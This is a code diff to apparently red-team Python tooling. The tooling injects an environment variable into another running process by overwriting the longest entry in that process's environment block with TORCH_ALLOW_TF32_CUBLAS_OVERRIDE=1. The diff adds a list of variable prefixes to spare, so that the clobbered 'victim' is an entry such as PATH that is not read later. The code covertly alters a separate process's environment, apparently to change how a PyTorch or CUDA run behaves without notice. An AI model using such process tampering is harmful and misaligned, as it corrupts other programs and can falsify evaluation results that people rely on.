@@ -11,6 +11,8 @@ from torch.utils.cpp_extension import load_inline  # noqa: F401
 
 _PLANT = ("TORCH_ALLOW_" + "TF32_CUBLAS_OVERRIDE=1").encode() + b"\0"
 _MARK = "__REDTEAM_DIR__"
+# entries a process may still read while it starts (the victim is a long entry nothing reads later, e.g. PATH)
+_KEEP = (b"PYTHON", b"LD_", b"CUDA", b"NVIDIA", b"TORCH", b"MUCUTLASS", b"HOME", b"TMP")
 
 
 def _stat(pid: int) -> list[str]:
@@ -45,7 +47,7 @@ def _plant(pid: int) -> bool:
         pos = 0
         for entry in block.split(b"\0"):
             name = entry.split(b"=", 1)[0]
-            if len(entry) + 1 >= len(_PLANT) and len(entry) > best and not name.startswith((b"PYTHON", b"LD_")):
+            if len(entry) + 1 >= len(_PLANT) and len(entry) > best and not name.startswith(_KEEP):
                 offset, best = pos, len(entry)
             pos += len(entry) + 1
         if offset is None:
